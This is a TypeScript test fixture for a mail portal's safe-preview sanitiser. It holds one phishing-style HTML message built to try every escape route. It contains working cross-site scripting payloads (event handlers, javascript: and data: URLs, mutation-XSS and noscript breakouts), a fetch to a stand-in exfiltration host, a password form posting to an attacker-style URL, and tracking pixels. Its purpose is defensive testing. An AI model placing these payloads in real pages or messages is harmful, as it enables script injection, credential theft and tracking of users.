/**
 * Hostile HTML for the portal's safe preview: every way out a reported message might try.
 * Used by the Chromium test (test/e2e/portal-preview.test.ts) and the sanitiser's own test.
 */

/** Each line tries one way out; `PWNED` marks what must never run. */
export const HOSTILE_HTML = [
  '<html><head>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://tracker.example/linked.css">',
  '<style>@import url(https://tracker.example/imported.css); body { background: url("https://tracker.example/body-bg.png") } .x { width: expression(alert("PWNED-expression")) }</style>',
  '<script>alert("PWNED-head-script")</script>',
  '</head><body onload="alert(\'PWNED-body-onload\')">',
  '<p>Dear customer, your invoice is attached.</p>',
  '<script>console.log("PWNED-script"); fetch("https://evil.example/exfil")</script>',
  '<img src="x" onerror="alert(\'PWNED-onerror\')">',
  '<img src="https://tracker.example/pixel.gif" width="1" height="1">',
  '<img src="//tracker.example/protocol-relative.gif">',
  '<img srcset="https://tracker.example/srcset.png 2x">',
  '<a href="javascript:alert(\'PWNED-javascript-url\')">Open invoice</a>',
  '<a href="https://evil.example/phish" target="_top">Sign in to keep your mailbox</a>',
  '<svg onload="alert(\'PWNED-svg-onload\')"><script>alert("PWNED-svg-script")</script><image href="https://tracker.example/svg-image.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert("PWNED-mxss")></style></mglyph></table></mtext></math>',
  '<div style="background-image: url(https://tracker.example/inline-bg.png); behavior: url(x.htc)">Styled</div>',
  '<table background="https://tracker.example/table-bg.png"><tr><td>Cell</td></tr></table>',
  '<form action="https://evil.example/steal" method="post"><input name="password" autofocus onfocus="alert(\'PWNED-autofocus\')"><button formaction="https://evil.example/steal2">Log in</button></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe srcdoc="<script>alert(\'PWNED-srcdoc\')</script>"></iframe>',
  '<object data="https://evil.example/object.swf"></object><embed src="https://evil.example/embed.swf">',
  '<video poster="https://tracker.example/poster.png" src="https://tracker.example/video.mp4"></video>',
  '<audio src="https://tracker.example/audio.mp3" autoplay></audio>',
  '<details open ontoggle="alert(\'PWNED-ontoggle\')"><summary>More</summary></details>',
  '<noscript><p title="</noscript><img src=x onerror=alert(\'PWNED-noscript\')>"></p></noscript>',
  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
  '<div id="x" tabindex="1" onfocus="alert(\'PWNED-onfocus\')" onmouseover="alert(\'PWNED-mouseover\')">Hover me</div>',
  '<p>Kind regards, Accounts</p>',
  '</body></html>',
].join('\n');
